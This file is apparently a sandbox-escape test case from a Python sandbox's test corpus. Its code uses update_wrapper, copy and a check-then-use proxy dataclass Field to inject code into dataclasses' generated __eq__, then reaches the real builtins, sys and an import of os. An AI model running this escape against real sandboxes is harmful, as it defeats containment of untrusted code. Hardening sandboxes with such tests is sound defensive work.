# technique: 186 without naming __dataclass_fields__ (the validator refuses the name): functools.update_wrapper(box, B) with its default updated=('__dict__',) copies B's class dict, the fields dict included, into an instance's __dict__; copy.copy(box) then hands that dict to box.__setstate__, which the snippet's __getattr__ hook answers (hasattr(y, '__setstate__') in copy._reconstruct); the fields dict found among the values gets the proxy field of 186 (a `name` property that answers 'x' to _guard_classes' check and the payload to the real _process_class), whose name is pasted into the __eq__ source dataclasses execs from its own trusted frame
# source: 186; check-then-use on a duck-typed Field; update_wrapper/copy as dict readers
# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import copy
import dataclasses
import functools
from dataclasses import dataclass, fields


@dataclass
class B:
    x: int = 0


def ftype(self):
    return self._field_type  # private read allowed on a parameter named self


FT = ftype(fields(B)[0])
G = []
STATES = []
PAYLOAD = 'x if G.append(fields.' + dn('globals') + ') else 0'


class Box:
    def __getattr__(self, name):
        if name == dn('setstate'):
            return STATES.append
        raise AttributeError(name)


box = Box()
functools.update_wrapper(box, B)  # box's __dict__ gets B's class dict
copy.copy(box)                    # ... which copy hands to box's __setstate__
fdict = None
for st in STATES:
    for v in st.values():
        if type(v) is dict and 'x' in v and v['x'] is fields(B)[0]:
            fdict = v
print('fields dict found:', fdict is not None)


class Proxy:
    _field_type = FT
    init = False
    kw_only = False
    compare = True
    default = dataclasses.MISSING
    default_factory = dataclasses.MISSING
    metadata = {}

    def __init__(self):
        self.n = 0
        self.type = int
        self.hash = None

    @property
    def name(self):
        self.n += 1
        return 'x' if self.n == 1 else PAYLOAD  # the check sees 'x', the exec the payload


p = Proxy()
p.repr = False
fdict['x'] = p

try:
    @dataclass(init=False, repr=False, eq=True)
    class D(B):
        """no inspect.signature for the docstring"""

    D() == D()
except BaseException as e:
    print('BLOCKED dataclass:', type(e).__name__, str(e)[:200])

if G and check('dataclasses module globals from generated __eq__', G[0]):
    g = G[0]
    check('real builtins via dataclasses globals', g[dn('builtins')])
    check('real sys module', g['sys'])
    attempt('os through the real __import__', lambda: g[dn('builtins')][dn('import')]('os'))
else:
    print('BLOCKED nothing collected')
